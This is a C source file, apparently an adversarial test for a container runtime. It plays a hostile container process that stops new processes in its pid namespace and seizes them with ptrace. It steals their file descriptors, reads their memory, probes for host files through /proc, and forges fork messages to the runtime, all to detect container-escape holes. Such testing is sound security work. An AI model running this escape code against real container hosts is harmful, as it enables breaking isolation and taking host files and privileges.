/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile process of a container: it waits for processes that are new in its pid namespace, stops each as early as it
 * can and tries to get from there what is not the container's.
 *
 *     neighbour SECONDS CAPS MARKER HOST_PID [VICTIM OP]
 *
 * CAPS: what a process of this container may have, in hex. MARKER: an absolute path that is only on the host. HOST_PID: a
 * process of the host whose root has it. VICTIM: a process that the runtime is told to be its child, in a forged FORKED of
 * step OP. One line for each finding, "FOUND what pid detail"; "init PID name" for each init that was caught alive, "terminal
 * PID number" for one that has a controlling terminal; "ready" when it begins and "done COUNT" in the end. /proc must be the container's own.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "plan.h"
#include "shared/system_calls.h"

#define SOCKET_PEERPIDFD 77
#define FDS 64
#define AHEAD 4
#define SELDOM 1024
#define MESSAGE 512

static unsigned long long allowed;
static const char *marker, *host_pid;
static long victim;
static unsigned int victim_op;
static unsigned long caught;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void found(const char *what, pid_t pid, const char *detail)
{
	printf("FOUND %s %d %s\n", what, pid, detail);
	fflush(stdout);
}

/* The value of a line of /proc/PID/status, "" if there is none. */
static void status_of(pid_t pid, const char *key, char *value, size_t size)
{
	char path[64], text[4096];
	ssize_t n;
	int fd;

	value[0] = '\0';
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	if (n <= 0)
		return;
	text[n] = '\0';
	for (char *line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n"))
		if (strncmp(line, key, strlen(key)) == 0 && line[strlen(key)] == ':')
			snprintf(value, size, "%s", line + strlen(key) + 1 + strspn(line + strlen(key) + 1, " \t"));
}

/* Whether it is still the runtime's program and not the container's. */
static bool is_init(pid_t pid)
{
	char name[64], path[64], target[256];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n > 0) {
		target[n] = '\0';
		return strstr(target, "memfd:") != NULL;
	}
	status_of(pid, "Name", name, sizeof(name));
	return strcmp(name, INIT_NAME) == 0;
}

static void look_for_marker(int dir, pid_t pid, const char *from)
{
	const char *places[] = {"", "1/root", "self/root", NULL, ".."};
	char path[1024], mine[64], line[1200];

	snprintf(mine, sizeof(mine), "%s/root", host_pid);
	places[3] = mine;
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		snprintf(path, sizeof(path), "%s%s%s", places[i], places[i][0] == '\0' ? "." : "", marker);
		int fd = openat(dir, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

		if (fd < 0)
			continue;
		close(fd);
		snprintf(line, sizeof(line), "%s %s", from, path);
		found("host-file", pid, line);
	}
}

/* What leads from a file descriptor of the other to somebody else. */
static void look_behind(int fd, pid_t pid, int number, int own_fds)
{
	char from[64];
	struct stat st;

	snprintf(from, sizeof(from), "fd %d", number);
	look_for_marker(fd, pid, from);
	if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) {
		int peer = -1;
		socklen_t size = sizeof(peer);

		if (number >= own_fds)
			found("socket", pid, from);
		if (getsockopt(fd, SOL_SOCKET, SOCKET_PEERPIDFD, &peer, &size) == 0 && peer >= 0) {
			for (int i = 0; i < FDS; i++) {
				int theirs = (int)syscall(SYS_pidfd_getfd, peer, i, 0);
				struct stat same;

				if (theirs < 0)
					continue;
				/* this very socket: init's helper for old kernels has nothing else either */
				if (fstat(theirs, &same) == 0 && same.st_ino == st.st_ino && same.st_dev == st.st_dev) {
					close(theirs);
					continue;
				}
				snprintf(from, sizeof(from), "fd %d of the peer", i);
				found("peer", pid, from);
				look_for_marker(theirs, pid, from);
				close(theirs);
			}
			close(peer);
		}
	}
}

static void forge(int fd)
{
	unsigned char message[MESSAGE] = {0};
	uint32_t code = SYNC_FORKED, op = victim_op;
	int64_t value = victim;

	memcpy(message, &code, 4);
	memcpy(message + 4, &op, 4);
	memcpy(message + 8, &op, 4);
	memcpy(message + 24, &value, 8);
	if (send(fd, message, sizeof(message), MSG_DONTWAIT | MSG_NOSIGNAL) < 0 && errno == ENOTSOCK) {
		fcntl(fd, F_SETFL, O_NONBLOCK);
		(void)!write(fd, message, sizeof(message));
	}
}

/* A procfs of our own pid namespace shows what ours shows. */
static bool is_our_proc(int fd)
{
	struct stat theirs, ours;

	return fstatat(fd, "1/ns/pid", &theirs, 0) == 0 && stat("/proc/1/ns/pid", &ours) == 0 &&
	       theirs.st_ino == ours.st_ino;
}

static void search_fds(pid_t pid, bool as_init)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int i = 0; i < FDS && pidfd >= 0; i++) {
		char path[64], target[256];
		ssize_t n;
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd < 0)
			continue;
		if (as_init && allowed == 0 && i > 2 && is_init(pid))
			found("descriptor", pid, "taken without CAP_SYS_PTRACE");
		look_behind(fd, pid, i, 3);
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, i);
		n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		/* stdio is the program's; behind it there may be nothing but two pipes, or what waits for start */
		if (as_init && i > 2 && n > 0 && strncmp(target, "pipe:", 5) != 0 &&
		    strstr(target, "exec.fifo") == NULL && !is_our_proc(fd) && is_init(pid))
			found("descriptor", pid, target);
		if (victim > 0 && i > 2) {
			kill(pid, SIGKILL);
			forge(fd);
		}
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void search_directory(pid_t pid, const char *name)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return;
	look_for_marker(fd, pid, name);
	close(fd);
}

/* Its memory: whether it knows the host's paths, and what files it is made of. */
static void search_memory(pid_t pid)
{
	char path[64], line[512];
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (maps == NULL)
		return;
	while (fgets(line, sizeof(line), maps) != NULL) {
		unsigned long from, to;
		static char memory[1 << 16];
		char access[8];
		struct iovec here = {memory, sizeof(memory)}, there;
		ssize_t n;

		if (sscanf(line, "%lx-%lx %7s", &from, &to, access) != 3 || access[0] != 'r')
			continue;
		if (strstr(line, "memfd:") != NULL && strstr(line, "memfd:pyrunc-init") == NULL) {
			line[strcspn(line, "\n")] = '\0';
			found("mapping", pid, line);
		}
		for (; from < to; from += sizeof(memory)) {
			there.iov_base = (void *)from;
			there.iov_len = to - from < sizeof(memory) ? to - from : sizeof(memory);
			n = process_vm_readv(pid, &here, 1, &there, 1, 0);
			if (n > 0 && memmem(memory, (size_t)n, marker, strlen(marker)) != NULL)
				found("memory", pid, marker);
		}
	}
	fclose(maps);
}

/* In another user namespace they are rights over what is in there. */
static bool same_user_namespace(pid_t pid)
{
	struct stat theirs, ours;
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/ns/user", pid);
	return stat(path, &theirs) == 0 && stat("/proc/self/ns/user", &ours) == 0 && theirs.st_ino == ours.st_ino;
}

static void search_capabilities(pid_t pid)
{
	static const char *const sets[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"};
	char value[64], line[128];

	for (size_t i = 0; i < sizeof(sets) / sizeof(sets[0]); i++) {
		status_of(pid, sets[i], value, sizeof(value));
		if (value[0] != '\0' && (strtoull(value, NULL, 16) & ~allowed) != 0 && same_user_namespace(pid)) {
			snprintf(line, sizeof(line), "%s %s", sets[i], value);
			found("capabilities", pid, line);
		}
	}
}

/* Who is stopped may open it as /dev/tty: the seventh number, the fifth behind the name. */
static void search_terminal(pid_t pid)
{
	char path[64], text[512], *end;
	int fd, terminal = 0;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n < 0 ? 0 : n] = '\0';
	end = strrchr(text, ')');
	if (end != NULL && sscanf(end + 1, " %*c %*d %*d %*d %d", &terminal) == 1 && terminal != 0)
		printf("terminal %d %d\n", pid, terminal);
}

static void attack(pid_t pid)
{
	bool traced, as_init;
	int status;

	kill(pid, SIGSTOP);
	traced = ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0;
	as_init = is_init(pid);
	if (as_init) {
		char name[64];

		caught++;
		status_of(pid, "Name", name, sizeof(name));
		printf("init %d %s%s\n", pid, name, traced ? " traced" : "");
		search_capabilities(pid);
		search_terminal(pid);
	}
	search_fds(pid, as_init);
	search_directory(pid, "root");
	search_directory(pid, "cwd");
	if (as_init)
		search_memory(pid);
	if (traced) {
		ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
		while (waitpid(pid, &status, __WALL) < 0 && errno == EINTR)
			;
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	kill(pid, SIGCONT);
}

static pid_t newest(void)
{
	char text[128], *last;
	ssize_t n;
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);

	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n < 0 ? 0 : n] = '\0';
	last = strrchr(text, ' ');
	return last == NULL ? 0 : (pid_t)strtol(last, NULL, 10);
}

int main(int argc, char **argv)
{
	double until;
	pid_t next;

	if (argc < 5)
		return 2;
	until = now() + strtod(argv[1], NULL);
	allowed = strtoull(argv[2], NULL, 16);
	marker = argv[3];
	host_pid = argv[4];
	if (argc > 6) {
		victim = strtol(argv[5], NULL, 10);
		victim_op = (unsigned int)strtoul(argv[6], NULL, 10);
	}
	signal(SIGCHLD, SIG_DFL);
	next = newest() + 1;
	puts("ready");
	fflush(stdout);
	for (unsigned long turn = 0; now() < until; turn++) {
		pid_t pid;

		/* some may have come and gone while somebody else had the processor */
		if (turn % SELDOM == 0 && newest() >= next)
			next = newest() + 1;
		pid = next + (pid_t)(turn % AHEAD);
		/* numbers are given in order: stop who will get the next ones before it has done anything */
		if (kill(pid, SIGSTOP) < 0 && errno != EPERM)
			continue;
		attack(pid);
		next = pid + 1;
	}
	printf("done %lu\n", caught);
	return 0;
}
